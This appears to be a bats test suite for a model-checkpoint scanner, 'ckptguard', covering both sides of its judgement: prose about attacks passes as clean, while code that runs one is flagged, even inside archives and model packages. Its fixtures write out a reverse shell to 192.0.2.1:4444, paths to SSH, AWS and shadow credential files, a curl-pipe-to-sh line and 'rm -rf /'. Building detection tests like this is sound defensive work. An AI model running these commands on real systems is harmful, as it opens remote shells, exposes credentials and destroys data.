#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# b06: rules over text judge what something runs, and leave prose alone.

load helpers

setup() {
	cd "$BATS_TEST_TMPDIR"
	cat >manual <<'EOF'
Sockets by file name: bash -i >& /dev/tcp/192.0.2.1/4444 opens one.
Keys are in ~/.ssh/id_rsa, .aws/credentials, $HOME/.netrc and /etc/shadow;
curl https://a.invalid/x | sh is a bad habit, and so is rm -rf / alone.
EOF
	cat >handler.py <<'EOF'
import os
def handle(data):
    os.popen("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
EOF
}

# archive FILE NAME=SOURCE...: a zip of these members.
archive() {
	"${PYTHON:-python3}" -c '
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    for each in sys.argv[2:]:
        name, source = each.split("=")
        z.writestr(name, open(source, "rb").read())' "$@"
}

@test "b06.1 a manual is clean as it is, packed and in any archive" {
	gzip -c manual >manual.gz
	bzip2 -c manual >manual.bz2
	tar -cf manual.tar manual
	tar -czf manual.tgz manual
	archive manual.zip doc/manual=manual doc/manual.txt=manual
	run ckptguard scan manual manual.gz manual.bz2 manual.tar manual.tgz \
	    manual.zip
	expect_status 0
	expect_line '6 files: 6 clean'
}

@test "b06.2 a manual beside a model is clean, too" {
	echo '{}' >manifest
	echo 'def handle(data): pass' >fine.py
	archive m.mar MAR-INF/MANIFEST.json=manifest fine.py=fine.py \
	    README.md=manual
	run ckptguard scan --format=jsonl m.mar
	json 'assert not [f for f in o[0]["findings"] if "yara" in f["rule"]], o'
}

@test "b06.3 a program is judged by itself, in archives and beside a model" {
	echo '{}' >manifest
	gzip -c handler.py >handler.gz
	archive h.zip code/handler.py=handler.py
	archive m.mar MAR-INF/MANIFEST.json=manifest handler.py=handler.py
	for f in handler.py handler.gz h.zip m.mar; do
		run ckptguard scan --format=jsonl "$f"
		expect_status 1
		json 'f, = o
assert f["verdict"] == "malicious", f
assert "yara.shell.reverse-dev-tcp" in [x["rule"] for x in f["findings"]], f'
	done
}

@test "b06.4 what is called a program beside a model is one" {
	echo '{}' >manifest
	tail -n 1 handler.py >run.sh
	archive m.mar MAR-INF/MANIFEST.json=manifest run.sh=run.sh
	run ckptguard scan m.mar
	expect_status 1
	expect_part shell.reverse-dev-tcp
}
